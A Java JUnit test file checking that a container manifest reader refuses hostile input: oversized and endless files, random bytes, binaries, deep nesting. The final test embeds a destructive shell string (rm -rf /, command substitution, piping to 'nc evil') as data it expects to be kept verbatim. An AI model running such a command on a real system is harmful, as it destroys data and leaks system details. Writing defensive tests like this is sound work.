package io.whalepod.hostile;

import static io.whalepod.hostile.Rejections.rejectionOf;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.whalepod.model.Pod;
import io.whalepod.validation.FieldError;
import io.whalepod.validation.PodValidationException;
import io.whalepod.yaml.ManifestException;
import io.whalepod.yaml.ManifestReader;
import java.io.IOException;
import java.io.InputStream;
import java.io.RandomAccessFile;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Hostile input too big or too binary to commit: huge files, endless streams, random bytes, deep nesting. Each is
 * refused with a typed error in bounded time and memory (the limits are in {@code Mappers}).
 */
class GeneratedHostileInputTest {
  private static final int MIB = 1024 * 1024;
  private static final String HEADER = "apiVersion: v1\nkind: Pod\nmetadata:\n  name: hostile\n";
  private static final String SPEC = "spec:\n  containers:\n  - name: app\n    image: whalepod/busybox\n";

  @TempDir
  Path dir;

  private Path write(String name, byte[] bytes) throws IOException {
    return Files.write(dir.resolve(name), bytes);
  }

  private static ManifestException manifestErrorOf(Path file) {
    return assertInstanceOf(ManifestException.class, rejectionOf(() -> ManifestReader.read(file)));
  }

  @Test
  void aTenMegabyteFileIsRefusedForItsSize() throws IOException {
    String filler = "    x: \"" + "y".repeat(1000) + "\"\n";
    Path file = write("ten.yaml", (HEADER + "  annotations:\n" + filler.repeat(10 * MIB / filler.length()) + SPEC)
        .getBytes(StandardCharsets.UTF_8));
    ManifestException e = manifestErrorOf(file);
    assertTrue(e.problem().startsWith("too large: " + Files.size(file) + " bytes"), e.getMessage());
  }

  /** Bounded memory: a sparse 1 GiB file is refused on its size, never read (it would not fit in the test heap). */
  @Test
  void aOneGigabyteFileIsNeverRead() throws IOException {
    Path file = dir.resolve("sparse.yaml");
    try (RandomAccessFile sparse = new RandomAccessFile(file.toFile(), "rw")) {
      sparse.setLength(1024L * MIB);
    }
    assertTrue(manifestErrorOf(file).problem().startsWith("too large: 1073741824 bytes"));
  }

  @Test
  void anEndlessStreamIsCutOffAtTheLimit() {
    InputStream endless = new InputStream() {
      @Override
      public int read() {
        return 'a';
      }
    };
    ManifestException e = assertInstanceOf(ManifestException.class,
        rejectionOf(() -> ManifestReader.read(endless, "stdin")));
    assertTrue(e.getMessage().startsWith("stdin: too large"), e.getMessage());
  }

  /** The worst accepted input: one unbroken 3 MiB scalar (snakeyaml scans such a token in quadratic time). */
  @Test
  void theLargestAcceptedManifestIsReadAndItsOversizedAnnotationReported() {
    String yaml = HEADER + "  annotations:\n    blob: " + "b".repeat(3 * MIB - 200) + "\n" + SPEC;
    long started = System.nanoTime();
    PodValidationException e = assertInstanceOf(PodValidationException.class,
        rejectionOf(() -> ManifestReader.readString(yaml)));
    System.out.printf("a 3 MiB unbroken scalar took %d ms to read and validate%n",
        (System.nanoTime() - started) / 1_000_000);
    assertEquals(List.of("metadata.annotations: Too long: must have at most 262144 bytes"),
        e.errors().stream().map(FieldError::toString).toList());
  }

  @ParameterizedTest(name = "seed {0}")
  @ValueSource(longs = {1, 2, 3, 42, 9})
  void randomBytesAreNotUtf8Text(long seed) throws IOException {
    byte[] bytes = new byte[64 * 1024];
    new Random(seed).nextBytes(bytes);
    ManifestException e = manifestErrorOf(write("random.bin", bytes));
    assertTrue(e.problem().startsWith("not UTF-8 text: byte 0x"), e.getMessage());
    assertTrue(e.line() > 0 && e.column() > 0, e.getMessage());
  }

  @Test
  void anExecutableIsNotUtf8TextAtItsFirstBadByte() throws IOException {
    byte[] elf = {0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 0x3e, 0, 1, 0, 0, 0, (byte) 0xb0};
    ManifestException e = manifestErrorOf(write("a.out", elf));
    assertEquals("not UTF-8 text: byte 0xb0 at offset 24", e.problem());
    assertEquals(1, e.line());
    assertEquals(25, e.column());
  }

  @Test
  void utf16IsRefusedAsNotUtf8() throws IOException {
    byte[] utf16 = (HEADER + SPEC).getBytes(StandardCharsets.UTF_16);
    assertTrue(manifestErrorOf(write("utf16.yaml", utf16)).problem().startsWith("not UTF-8 text: byte 0xfe"));
  }

  @Test
  void aNulCharacterIsNamedWhereItIs() {
    ManifestException e = assertInstanceOf(ManifestException.class,
        rejectionOf(() -> ManifestReader.readString(HEADER + SPEC.replace("busybox", "busy\0box"))));
    assertEquals("special character U+0000 is not allowed in YAML", e.problem());
    assertEquals(8, e.line());
    assertEquals(25, e.column());
  }

  @Test
  void anUnclosedQuoteNamesWhereItOpened() {
    ManifestException e = assertInstanceOf(ManifestException.class,
        rejectionOf(() -> ManifestReader.readString(HEADER.replace("name: hostile", "name: \"open") + SPEC)));
    assertTrue(e.problem().endsWith("(while scanning a quoted scalar at 4:9)"), e.getMessage());
  }

  /**
   * The nesting comes before {@code kind}, so Jackson must buffer all of it to find the type: the parser's depth
   * limit, not the model's types, is what stops it.
   */
  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {"flow lists", "flow maps", "block maps", "block lists"})
  void deepNestingIsRefusedBeforeTheStackRunsOut(String shape) {
    int depth = 10_000;
    String deep = switch (shape) {
      case "flow lists" -> "metadata: " + "[".repeat(depth) + "]".repeat(depth) + "\n";
      case "flow maps" -> "metadata: " + "{a: ".repeat(depth) + "b" + "}".repeat(depth) + "\n";
      case "block maps" -> "metadata:\n" + nestedBlock(200, "a:");
      default -> "metadata:\n" + nestedBlock(200, "-");
    };
    String yaml = deep + "apiVersion: v1\nkind: Pod\n" + SPEC;
    ManifestException e = assertInstanceOf(ManifestException.class, rejectionOf(() -> ManifestReader.readString(yaml)));
    assertTrue(e.problem().toLowerCase(java.util.Locale.ROOT).contains("nesting depth"), e.getMessage());
  }

  private static String nestedBlock(int depth, String item) {
    StringBuilder out = new StringBuilder();
    for (int i = 0; i < depth; i++) {
      out.append("  ".repeat(i + 1)).append(item).append('\n');
    }
    return out.toString();
  }

  @Test
  void aHugeFieldNameIsRefusedWithoutEchoingIt() {
    String name = "k".repeat(100_000);
    ManifestException e = assertInstanceOf(ManifestException.class,
        rejectionOf(() -> ManifestReader.readString(HEADER + "  " + name + ": 1\n" + SPEC)));
    assertTrue(e.getMessage().length() < 1000, "the message repeats the name: " + e.getMessage().length());
  }

  @ParameterizedTest(name = "input {index}")
  @ValueSource(strings = {"", "\n\n", "# a comment and nothing else\n", "---\n---\n", "~\n"})
  void emptyInputHoldsNoPods(String yaml) {
    // Kubernetes skips empty documents; `whalepod apply` then says "no objects passed to apply" (see src-it).
    assertTimeoutPreemptively(Rejections.HANG_GUARD, () -> assertEquals(List.of(), ManifestReader.readString(yaml).pods()));
  }

  /** Shell metacharacters in commands and values are data: passed as argv to the container, never to a shell. */
  @Test
  void shellMetacharactersInCommandsAndValuesAreKeptVerbatim() {
    String dangerous = "rm -rf / ; echo $(id) `uname` | nc evil 1 && reboot > /dev/null";
    Pod pod = Rejections.load(() -> ManifestReader.readString(HEADER + SPEC
        + "    command: [\"sh\", \"-c\", " + quoted(dangerous) + "]\n"
        + "    env:\n    - name: PAYLOAD\n      value: " + quoted(dangerous) + "\n")).get(0);
    assertEquals(List.of("sh", "-c", dangerous), pod.spec().containers().get(0).command());
    assertEquals(dangerous, pod.spec().containers().get(0).env().get(0).value());
  }

  private static String quoted(String s) {
    return "\"" + s.replace("\\", "\\\\").replace("\"", "\\\"") + "\"";
  }
}
